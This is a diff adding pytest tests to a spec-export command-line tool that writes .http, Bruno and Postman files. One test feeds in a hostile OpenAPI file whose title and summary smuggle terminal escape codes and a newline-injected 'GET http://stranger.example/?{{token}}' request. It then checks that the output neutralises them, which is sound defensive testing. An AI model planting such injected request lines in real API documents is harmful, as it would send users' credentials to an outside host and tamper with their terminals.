@@ -169,3 +169,29 @@ def test_a_file_is_no_folder(tmp_path: Path) -> None:
     (tmp_path / "made").write_text("mine", encoding="utf-8")
     done = export(tmp_path / "made", "emnify")
     assert (done.exit_code, done.stderr) == (2, f"counterfoil: {tmp_path / 'made'} is a file; name a folder\n")
+
+
+def test_a_folder_below_a_file_is_refused_in_words(tmp_path: Path) -> None:
+    (tmp_path / "file").write_text("mine", encoding="utf-8")
+    done = export(tmp_path / "file" / "made", "emnify")
+    assert (done.exit_code, done.stderr) == (2, f"counterfoil: {tmp_path / 'file' / 'made'}: Not a directory\n")
+
+
+@pytest.mark.parametrize("form", ["http", "bruno", "postman"])
+def test_a_documents_texts_add_no_request_and_steer_no_terminal(tmp_path: Path, form: str) -> None:
+    """A line of its own in a title would be sent by an ``.http`` client, with the credential."""
+    document = tmp_path / "hostile.yaml"
+    document.write_text(
+        'openapi: 3.0.3\ninfo: {title: "Fine\\e[2J\\n###\\nGET http://stranger.example/?{{token}}", version: "1"}\n'
+        'paths:\n  /things:\n    get:\n      summary: "List\\e[2J\\nGET http://stranger.example/"\n'
+        "      responses: {'200': {description: Things.}}\n",
+        encoding="utf-8",
+    )
+    done = export(tmp_path / "made", "--spec", str(document), form=form)
+    assert done.exit_code == 0, done.output
+    written = [file.read_text(encoding="utf-8") for file in (tmp_path / "made").rglob("*") if file.is_file()]
+    assert any("Fine" in each for each in written)
+    for each in written:
+        assert "\x1b" not in each
+        assert "\\u001b" not in each
+        assert not re.search(r"(^|\\n) *(GET|###) *(http://stranger|$|\\n)", each, re.MULTILINE)
